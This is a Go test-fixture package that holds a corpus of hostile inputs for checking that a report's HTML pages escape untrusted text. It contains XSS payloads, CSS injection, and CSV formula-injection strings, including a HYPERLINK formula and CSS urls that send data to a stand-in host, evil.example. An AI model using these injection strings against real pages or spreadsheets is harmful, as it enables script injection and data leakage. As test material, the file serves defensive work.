// Package hostile is the corpus of hostile text that the report's tests
// put into every field that reaches a page: report's unit tests at the
// HTML level, e2e's in a real browser. Every payload that would run sets
// the sentinel window.__pwned (e2e reads it) and none opens a dialog by
// itself; e2e still fails a page that opens one.
package hostile

import "strings"

// An Entry is one hostile text and what it attacks.
type Entry struct {
	Name string
	Text string
}

// Corpus returns the hostile texts, each short enough to be shown whole
// (at most 100 runes, the shortest cut the report makes), in a fixed order.
func Corpus() []Entry {
	return append([]Entry(nil), corpus...)
}

var corpus = []Entry{
	{"script", `<script>window.__pwned=1</script>`},
	{"script end", `</script><script>window.__pwned=2</script>`},
	{"attribute break", `"><img src=x onerror=window.__pwned=3>`},
	{"single-quoted attribute break", `'><svg onload=window.__pwned=4>`},
	{"event handler", `" onmouseover="window.__pwned=5" autofocus onfocus="window.__pwned=5" x="`},
	{"javascript URL", `javascript:window.__pwned=6//`},
	{"data URL", `data:text/html,<script>window.__pwned=7</script>`},
	{"go-echarts function", `__f__function(){window.__pwned=8}__f__`},
	{"template delimiters", `{{.}} {{ .Client }} {{template "x"}} {{/* */}}`},
	{"comment", `<!-- <script>window.__pwned=9</script> -->`},
	{"open comment", `<!--`},
	{"style end", `</style><script>window.__pwned=10</script>`},
	{"css injection", `</style><style>*{background:url(https://evil.example/css)}</style>`},
	{"css in an attribute", `x;background:url(https://evil.example/attr)`},
	{"cdata end", `]]><script>window.__pwned=11</script>`},
	{"entity", `&lt;script&gt;window.__pwned=12&lt;/script&gt; &amp;amp;`},
	{"json break", `"}]};window.__pwned=13;//`},
	{"bidi override", "Ann\u202Etxet desrever 42"},
	{"zero width", "Zero\u200Bwidth\u200Cjoin\u200Dbom\uFEFFend"},
}

// Formulas are cells a spreadsheet would take for a formula (CSV
// injection): each begins with = + - @, a tab or a carriage return.
func Formulas() []string {
	return append([]string(nil), formulas...)
}

var formulas = []string{
	`=cmd|' /C calc'!A0`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`=HYPERLINK("https://evil.example/?"&A1,"open")`,
}

// HugeSize is the length of Huge in bytes.
const HugeSize = 1 << 20

// Huge is a 1 MB text: a sentence repeated, one payload in the middle and
// one at the end, and a marker at the start that tests look for.
func Huge() string {
	const start = "HUGE-TEXT-START "
	payload := corpus[0].Text
	sentence := "This is a very long complaint about my order. "
	var b strings.Builder
	b.Grow(HugeSize)
	b.WriteString(start)
	for b.Len() < HugeSize/2 {
		b.WriteString(sentence)
	}
	b.WriteString(payload)
	for b.Len() < HugeSize-len(payload) {
		b.WriteString(sentence)
	}
	s := b.String()[:HugeSize-len(payload)] + payload
	return s
}

// HugePrefix is the start of Huge, which a page that shows it cut shows.
const HugePrefix = "HUGE-TEXT-START This is a very long complaint"

// Joined is every entry of the corpus in one text, separated by spaces.
func Joined() string {
	var parts []string
	for _, e := range corpus {
		parts = append(parts, e.Text)
	}
	return strings.Join(parts, " ")
}

// Sentinels are the marks a payload leaves when it runs.
const (
	SentinelVar   = "__pwned" // window.__pwned
	SentinelTitle = "PWNED"   // document.title
)
